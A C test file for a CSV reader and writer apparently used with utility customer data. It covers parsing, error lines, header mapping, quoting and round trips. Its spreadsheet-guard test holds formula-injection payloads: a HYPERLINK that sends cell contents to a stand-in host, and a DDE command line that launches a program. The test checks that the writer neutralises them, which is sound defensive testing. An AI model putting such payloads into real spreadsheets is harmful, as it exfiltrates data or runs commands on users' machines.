/* SPDX-License-Identifier: GPL-3.0-or-later */
/* RFC 4180 reader and writer: parsing table, physical line numbers,
 * every error with its line, header mapping, quoting rules, round trips. */
#include "core/drd-csv.h"

#include <string.h>

/* Records separated by '|' in the expectation, fields by '¦'. */
static char *
parse_all (const char *data, GError **error)
{
  g_autoptr (DrdCsvReader) r = drd_csv_reader_new (data, -1);
  GString *out = g_string_new (NULL);

  while (drd_csv_reader_next (r, error))
    {
      if (out->len)
        g_string_append_c (out, '|');
      for (guint i = 0; i < drd_csv_reader_get_n_fields (r); i++)
        {
          if (i)
            g_string_append (out, "¦");
          g_string_append (out, drd_csv_reader_get_field (r, i));
          g_assert_cmpuint (strlen (drd_csv_reader_get_field (r, i)), ==,
                            drd_csv_reader_get_field_len (r, i));
        }
    }
  return g_string_free (out, FALSE);
}

static void
test_parse (void)
{
  static const struct { const char *in, *out; } table[] = {
    { "a,b,c\r\n1,2,3\r\n", "a¦b¦c|1¦2¦3" },
    { "a,b,c\n1,2,3\n", "a¦b¦c|1¦2¦3" },
    { "a,b\r1,2\r", "a¦b|1¦2" },                                  /* lone CR */
    { "a,b\n1,2", "a¦b|1¦2" },                                    /* no final newline */
    { "\xEF\xBB\xBF" "id,name\n1,x\n", "id¦name|1¦x" },            /* BOM */
    { "\"a,b\",c\n", "a,b¦c" },
    { "\"say \"\"hi\"\"\",x\n", "say \"hi\"¦x" },
    { "\"line1\nline2\",x\n", "line1\nline2¦x" },
    { "\"line1\r\nline2\",x\r\n", "line1\r\nline2¦x" },
    { "\"\",x\n", "¦x" },
    { "a,,c\n", "a¦¦c" },
    { "a,b,\n", "a¦b¦" },
    { "a,b,", "a¦b¦" },
    { ",\n", "¦" },
    { "\n\r\n\na,b\n\n\n1,2\n\n", "a¦b|1¦2" },                    /* empty lines skipped */
    { " a , b \n", " a ¦ b " },                                   /* spaces are data */
    { "홍길동,서울\n", "홍길동¦서울" },
    { "", "" },
    { "\xEF\xBB\xBF", "" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (table); i++)
    {
      g_autoptr (GError) error = NULL;
      g_autofree char *got = parse_all (table[i].in, &error);

      g_test_message ("case %u", i);
      g_assert_no_error (error);
      g_assert_cmpstr (got, ==, table[i].out);
    }
}

static void
test_line_numbers (void)
{
  static const char data[] =
    "h1,h2\r\n"              /* line 1 */
    "\"multi\r\nline\",x\r\n" /* lines 2–3 */
    "\r\n"                   /* 4: empty */
    "y,\"a\nb\nc\"\r\n"      /* 5–7 */
    "last,1";                /* 8 */
  static const guint want_lines[] = { 1, 2, 5, 8 };
  g_autoptr (DrdCsvReader) r = drd_csv_reader_new (data, sizeof data - 1);
  guint n = 0;

  while (drd_csv_reader_next (r, NULL))
    {
      g_assert_cmpuint (n, <, G_N_ELEMENTS (want_lines));
      g_assert_cmpuint (drd_csv_reader_get_line (r), ==, want_lines[n]);
      g_assert_cmpuint (drd_csv_reader_get_record_number (r), ==, n + 1);
      n++;
    }
  g_assert_cmpuint (n, ==, 4);
}

/* Each error names the line where the bad record starts; after a
 * recoverable error the next record is read. */
static void
test_errors (void)
{
  static const struct {
    const char *in; int code; guint line; const char *after;
  } table[] = {
    { "a,b\n1,2\n\xC3\x28,x\n3,4\n", DRD_CSV_ERROR_INVALID_UTF8, 3, "3¦4" },
    { "a,b\n\"ok\nstill\",\xff\n3,4\n", DRD_CSV_ERROR_INVALID_UTF8, 2, "3¦4" },
    { "a,b\n1,2\nx\"y,z\n3,4\n", DRD_CSV_ERROR_BAD_QUOTE, 3, "3¦4" },
    { "a,b\n\"1\"x,2\n3,4\n", DRD_CSV_ERROR_BAD_QUOTE, 2, "3¦4" },
    { "a,b\n1,2\n\n\"open,3\n4,5\n", DRD_CSV_ERROR_UNTERMINATED_QUOTE, 4, NULL },
  };

  for (guint i = 0; i < G_N_ELEMENTS (table); i++)
    {
      g_autoptr (DrdCsvReader) r = drd_csv_reader_new (table[i].in, -1);
      g_autoptr (GError) error = NULL;
      g_autofree char *line_prefix = g_strdup_printf ("line %u:", table[i].line);

      g_test_message ("case %u", i);
      while (drd_csv_reader_next (r, &error))
        ;
      g_assert_error (error, DRD_CSV_ERROR, table[i].code);
      g_assert_cmpuint (drd_csv_reader_get_line (r), ==, table[i].line);
      if (!g_str_has_prefix (error->message, line_prefix))
        g_error ("“%s” does not start with “%s”", error->message, line_prefix);
      g_clear_error (&error);

      if (table[i].after)
        {
          g_assert_true (drd_csv_reader_next (r, &error));
          g_assert_no_error (error);
          g_assert_cmpstr (drd_csv_reader_get_field (r, 0), ==, "3");
          g_assert_false (drd_csv_reader_next (r, &error));
          g_assert_no_error (error);
        }
      else
        {
          /* fatal: nothing more */
          g_assert_false (drd_csv_reader_next (r, &error));
          g_assert_no_error (error);
        }
    }
}

static void
test_header (void)
{
  static const char * const columns[] = { "customer_id", "name", "kepco_customer_no", "phone", NULL };
  static const char * const required[] = { "customer_id", "name", "kepco_customer_no", NULL };
  int idx[4];

  {
    g_autoptr (DrdCsvReader) r =
      drd_csv_reader_new ("extra, Name ,KEPCO_CUSTOMER_NO,customer_id\nz,홍길동,0123,42\n", -1);
    g_autoptr (GError) error = NULL;

    g_assert_true (drd_csv_reader_read_header (r, columns, required, idx, &error));
    g_assert_no_error (error);
    g_assert_cmpint (idx[0], ==, 3);
    g_assert_cmpint (idx[1], ==, 1);
    g_assert_cmpint (idx[2], ==, 2);
    g_assert_cmpint (idx[3], ==, -1);
    g_assert_true (drd_csv_reader_next (r, NULL));
    g_assert_cmpstr (drd_csv_reader_get_column (r, idx[0]), ==, "42");
    g_assert_cmpstr (drd_csv_reader_get_column (r, idx[1]), ==, "홍길동");
    g_assert_cmpstr (drd_csv_reader_get_column (r, idx[3]), ==, "");
  }
  {
    /* short row: absent trailing fields read as "" */
    g_autoptr (DrdCsvReader) r = drd_csv_reader_new ("customer_id,name,kepco_customer_no\n7\n", -1);

    g_assert_true (drd_csv_reader_read_header (r, columns, required, idx, NULL));
    g_assert_true (drd_csv_reader_next (r, NULL));
    g_assert_cmpstr (drd_csv_reader_get_column (r, idx[2]), ==, "");
  }
  {
    g_autoptr (DrdCsvReader) r = drd_csv_reader_new ("\n\ncustomer_id,name,phone\n", -1);
    g_autoptr (GError) error = NULL;

    g_assert_false (drd_csv_reader_read_header (r, columns, required, idx, &error));
    g_assert_error (error, DRD_CSV_ERROR, DRD_CSV_ERROR_MISSING_COLUMN);
    g_assert_true (g_str_has_prefix (error->message, "line 3:"));
    g_assert_nonnull (strstr (error->message, "kepco_customer_no"));
  }
  {
    g_autoptr (DrdCsvReader) r = drd_csv_reader_new ("phone,name,customer_id\n", -1);
    g_autoptr (GError) error = NULL;

    g_assert_false (drd_csv_reader_read_header (r, columns, required, idx, &error));
    g_assert_error (error, DRD_CSV_ERROR, DRD_CSV_ERROR_MISSING_COLUMN);
  }
  {
    g_autoptr (DrdCsvReader) r =
      drd_csv_reader_new ("customer_id,name,kepco_customer_no,name\n", -1);
    g_autoptr (GError) error = NULL;

    g_assert_false (drd_csv_reader_read_header (r, columns, required, idx, &error));
    g_assert_error (error, DRD_CSV_ERROR, DRD_CSV_ERROR_DUPLICATE_COLUMN);
    g_assert_nonnull (strstr (error->message, "“name”"));
  }
  {
    g_autoptr (DrdCsvReader) r = drd_csv_reader_new ("\xEF\xBB\xBF\r\n\r\n", -1);
    g_autoptr (GError) error = NULL;

    g_assert_false (drd_csv_reader_read_header (r, columns, required, idx, &error));
    g_assert_error (error, DRD_CSV_ERROR, DRD_CSV_ERROR_NO_HEADER);
  }
}

static void
test_write_quoting (void)
{
  static const struct { const char *in, *out; } table[] = {
    { "plain", "plain" },
    { "", "" },
    { "a,b", "\"a,b\"" },
    { "say \"hi\"", "\"say \"\"hi\"\"\"" },
    { "\"", "\"\"\"\"" },
    { "line\nbreak", "\"line\nbreak\"" },
    { "cr\rhere", "\"cr\rhere\"" },
    { " lead", "\" lead\"" },
    { "trail ", "\"trail \"" },
    { "\ttab", "\"\ttab\"" },
    { "in side", "in side" },
    { "홍길동", "홍길동" },
    { "2026-07-01T13:00:00+09:00", "2026-07-01T13:00:00+09:00" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (table); i++)
    {
      g_autoptr (GString) out = g_string_new (NULL);

      drd_csv_write_field (out, table[i].in, -1);
      g_assert_cmpstr (out->str, ==, table[i].out);
    }
}

static void
test_writer (void)
{
  g_autoptr (GString) out = g_string_new (NULL);
  DrdCsvWriter w;
  static const char * const rec[] = { "a", "b,c", NULL };

  drd_csv_writer_init (&w, out, TRUE);
  drd_csv_writer_field (&w, "id");
  drd_csv_writer_field (&w, "kwh");
  drd_csv_writer_field (&w, NULL);
  drd_csv_writer_end_record (&w);
  drd_csv_writer_field_int (&w, -42);
  drd_csv_writer_field_milli (&w, 1234);
  drd_csv_writer_field_milli (&w, -5);
  drd_csv_writer_field_milli (&w, 0);
  drd_csv_writer_field_int (&w, G_MININT64);
  drd_csv_writer_field_milli (&w, G_MAXINT64);
  drd_csv_writer_end_record (&w);
  drd_csv_write_record (out, rec, 3);
  drd_csv_writer_field (&w, "");          /* a lone empty field is not an empty line */
  drd_csv_writer_end_record (&w);
  drd_csv_write_record (out, rec + 2, 1);
  g_assert_cmpstr (out->str, ==,
                   "\xEF\xBB\xBF" "id,kwh,\r\n"
                   "-42,1.234,-0.005,0.000,-9223372036854775808,9223372036854775.807\r\n"
                   "a,\"b,c\",\r\n"
                   "\"\"\r\n"
                   "\"\"\r\n");
}

/* Spreadsheet-bound files: a text cell that a spreadsheet would run as a
 * formula gets a leading apostrophe; numbers written as numbers do not. */
static void
test_spreadsheet_guard (void)
{
  static const struct { const char *in, *out; } table[] = {
    { "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"bonus\")",
      "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A2,\"\"bonus\"\")\"" },
    { "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0" },
    { "-2+3", "'-2+3" },
    { "@SUM(1+1)", "'@SUM(1+1)" },
    { "\t=1+2", "'\t=1+2" },
    { "\r=1+2", "\"'\r=1+2\"" },
    { "=", "'=" },
    { "+82 10-1234-5678", "'+82 10-1234-5678" },
    { "plain", "plain" },
    { "a=b", "a=b" },
    { "", "" },
    { "'quoted already", "'quoted already" },
    { "홍길동", "홍길동" },
  };
  DrdCsvWriter w;

  for (guint i = 0; i < G_N_ELEMENTS (table); i++)
    {
      g_autoptr (GString) out = g_string_new (NULL);
      g_autoptr (GString) raw = g_string_new (NULL);

      drd_csv_write_text_field (out, table[i].in, -1, TRUE);
      g_assert_cmpstr (out->str, ==, table[i].out);
      /* raw: unchanged, as every machine-read CSV is */
      drd_csv_write_text_field (raw, table[i].in, -1, FALSE);
      g_string_truncate (out, 0);
      drd_csv_write_field (out, table[i].in, -1);
      g_assert_cmpstr (raw->str, ==, out->str);
    }

  {
    g_autoptr (GString) out = g_string_new (NULL);

    drd_csv_writer_init (&w, out, FALSE);
    drd_csv_writer_set_spreadsheet (&w, TRUE);
    drd_csv_writer_field (&w, "-5 kWh");
    drd_csv_writer_field_int (&w, -42);
    drd_csv_writer_field_milli (&w, -1250);
    drd_csv_writer_field (&w, "@x");
    drd_csv_writer_field (&w, "");
    drd_csv_writer_end_record (&w);
    g_assert_cmpstr (out->str, ==, "'-5 kWh,-42,-1.250,'@x,\r\n");
  }
}

/* Whatever the writer writes, the reader reads back unchanged. */
static void
test_round_trip (void)
{
  static const char *pool[] = {
    "", "x", "a,b", "\"", "\"\"", "say \"hi\", ok", "multi\nline", "crlf\r\ninside", " lead",
    "trail ", "홍길동", "서울특별시 중구, 세종대로 110", "#hash", "=1+2", "\r", "\n",
  };
  g_autoptr (GString) out = g_string_new (NULL);
  g_autoptr (DrdCsvReader) r = NULL;
  GRand *rand = g_rand_new_with_seed (4180);
  const guint n_records = 500, n_fields = 5;
  guint *picks = g_new (guint, n_records * n_fields);
  DrdCsvWriter w;
  guint rec = 0;

  drd_csv_writer_init (&w, out, TRUE);
  for (guint i = 0; i < n_records; i++)
    {
      for (guint f = 0; f < n_fields; f++)
        {
          picks[i * n_fields + f] = (guint) g_rand_int_range (rand, 0, G_N_ELEMENTS (pool));
          drd_csv_writer_field (&w, pool[picks[i * n_fields + f]]);
        }
      drd_csv_writer_end_record (&w);
    }

  r = drd_csv_reader_new (out->str, (gssize) out->len);
  while (drd_csv_reader_next (r, NULL))
    {
      g_assert_cmpuint (drd_csv_reader_get_n_fields (r), ==, n_fields);
      for (guint f = 0; f < n_fields; f++)
        g_assert_cmpstr (drd_csv_reader_get_field (r, f), ==, pool[picks[rec * n_fields + f]]);
      rec++;
    }
  g_assert_cmpuint (rec, ==, n_records);
  g_free (picks);
  g_rand_free (rand);
}

/* 100 000 rows stream through in one pass with the right last line. */
static void
test_many_rows (void)
{
  g_autoptr (GString) out = g_string_new (NULL);
  g_autoptr (DrdCsvReader) r = NULL;
  DrdCsvWriter w;
  guint n = 0;
  gint64 sum = 0;

  drd_csv_writer_init (&w, out, FALSE);
  drd_csv_writer_field (&w, "customer_id");
  drd_csv_writer_field (&w, "name");
  drd_csv_writer_end_record (&w);
  for (int i = 1; i <= 100000; i++)
    {
      drd_csv_writer_field_int (&w, i);
      drd_csv_writer_field (&w, i % 7 == 0 ? "has,comma" : "고객");
      drd_csv_writer_end_record (&w);
    }
  r = drd_csv_reader_new (out->str, (gssize) out->len);
  g_assert_true (drd_csv_reader_next (r, NULL));
  while (drd_csv_reader_next (r, NULL))
    {
      sum += g_ascii_strtoll (drd_csv_reader_get_field (r, 0), NULL, 10);
      n++;
    }
  g_assert_cmpuint (n, ==, 100000);
  g_assert_cmpint (sum, ==, G_GINT64_CONSTANT (5000050000));
  g_assert_cmpuint (drd_csv_reader_get_line (r), ==, 100001);
}

int
main (int argc, char **argv)
{
  g_test_init (&argc, &argv, NULL);
  g_test_add_func ("/csv/parse", test_parse);
  g_test_add_func ("/csv/line-numbers", test_line_numbers);
  g_test_add_func ("/csv/errors", test_errors);
  g_test_add_func ("/csv/header", test_header);
  g_test_add_func ("/csv/write-quoting", test_write_quoting);
  g_test_add_func ("/csv/writer", test_writer);
  g_test_add_func ("/csv/spreadsheet-guard", test_spreadsheet_guard);
  g_test_add_func ("/csv/round-trip", test_round_trip);
  g_test_add_func ("/csv/many-rows", test_many_rows);
  return g_test_run ();
}
